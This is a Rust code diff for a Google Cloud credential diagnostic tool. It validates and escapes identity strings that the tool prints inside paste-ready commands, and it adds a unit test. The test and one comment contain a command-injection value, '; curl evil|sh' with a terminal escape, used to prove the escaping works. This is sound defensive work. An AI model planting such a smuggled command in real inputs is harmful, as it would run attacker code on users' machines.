@@ -2,9 +2,10 @@
 
 use super::{endpoints::Reached, finding::Finding};
 use crate::{
-    credentials::{Source, external_account::CredentialSource},
+    credentials::{MetadataServer, Source, external_account::CredentialSource},
     error::{Endpoint, Error, UpstreamErrorKind},
     exchange::{self, AccessRequest, Http},
+    validate::ServiceAccountEmail,
 };
 
 /// Mints an access token with the default scopes, unless an endpoint is already known dead.
@@ -34,12 +35,9 @@ async fn whom(http: &Http, source: &Source) -> String {
             Some(imp) => imp.email.clone(),
             None => principal(account),
         },
-        Source::Metadata(server) => {
-            let path = "instance/service-accounts/default/email";
-            exchange::metadata::text(http, server, path)
-                .await
-                .unwrap_or_else(|_| "the metadata server's account".into())
-        }
+        Source::Metadata(server) => metadata_email(http, server)
+            .await
+            .map_or_else(|| "the metadata server's account".into(), |e| e.as_str().to_owned()),
         Source::AuthorizedUser(_) => {
             "the signed-in user (the authorized_user file does not name them)".into()
         }
@@ -91,6 +89,14 @@ fn invalid_grant_fix(source: &Source, description: &str, skewed: bool) -> String
     }
 }
 
+/// The metadata server's account, only if it is a service account's email: its words are
+/// printed, some inside a command to paste, so `x; curl ...|sh` or a terminal escape is not taken.
+async fn metadata_email(http: &Http, server: &MetadataServer) -> Option<ServiceAccountEmail> {
+    let text =
+        exchange::metadata::text(http, server, "instance/service-accounts/default/email").await.ok()?;
+    ServiceAccountEmail::parse(&text).ok()
+}
+
 /// Which role the caller lacks on the target, and how to grant it.
 async fn impersonation_denied(http: &Http, source: &Source, error: &Error) -> Finding {
     let (caller, target, federated) = match source {
@@ -104,7 +110,10 @@ async fn impersonation_denied(http: &Http, source: &Source, error: &Error) -> Fi
     let member = match caller {
         Source::ServiceAccount(key) => format!("serviceAccount:{}", key.client_email),
         Source::ExternalAccount(account) => principal(account),
-        Source::Metadata(_) => format!("serviceAccount:{}", whom(http, caller).await),
+        Source::Metadata(server) => {
+            let email = metadata_email(http, server).await;
+            format!("serviceAccount:{}", email.as_ref().map_or("SERVICE_ACCOUNT_EMAIL", |e| e.as_str()))
+        }
         _ => "user:YOUR_EMAIL".to_owned(),
     };
     let federated = federated || matches!(caller, Source::ExternalAccount(_));
@@ -118,6 +127,9 @@ async fn impersonation_denied(http: &Http, source: &Source, error: &Error) -> Fi
         ),
     )
 }
+
+/// The longest `sub` shown: Google allows 127 bytes after attribute mapping.
+const SUB_MAX: usize = 127;
 
 /// The federated principal, `principal://iam.googleapis.com/POOL/subject/SUB`, with `sub` read
 /// from a file subject token (a JWT), else a placeholder to fill in.
@@ -135,8 +147,33 @@ pub(super) fn principal(account: &crate::credentials::ExternalAccount) -> String
         CredentialSource::File { path, .. } => crate::input::read_text(path)
             .ok()
             .and_then(|t| jsonwebtoken::dangerous::insecure_decode_claims::<Sub>(t.trim()).ok())
-            .map(|c| c.sub),
+            // The file's words go into a command to paste: one line, bounded.
+            .map(|c| crate::scrub::escape(&c.sub.chars().take(SUB_MAX).collect::<String>())),
         _ => None,
     };
     format!("principal://iam.googleapis.com/{pool}/subject/{}", sub.unwrap_or_else(|| "SUBJECT".into()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
+
+    #[test]
+    fn a_subject_tokens_sub_is_shown_on_one_line_and_bounded() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let path = dir.path().join("token");
+        let sub = format!("x\n\u{1b}[31m; curl evil|sh {}", "a".repeat(500));
+        let claims = URL_SAFE_NO_PAD.encode(serde_json::json!({ "sub": sub }).to_string());
+        std::fs::write(&path, format!("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.{claims}.c2ln")).expect("write");
+        let provider = "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/k";
+        let endpoints = crate::credentials::external_account::Endpoints::default();
+        let account = crate::credentials::ExternalAccount::from_flags(path, provider, None, &endpoints)
+            .expect("account");
+        let shown = principal(&account);
+        assert!(shown.starts_with("principal://iam.googleapis.com/projects/1/locations/global/"), "{shown}");
+        assert!(!shown.contains(['\n', '\u{1b}']), "{shown}");
+        assert!(shown.contains("/subject/x\\n\\u{1b}[31m; curl evil|sh a"), "{shown}");
+        assert!(shown.len() < 250, "bounded: {shown}");
+    }
 }
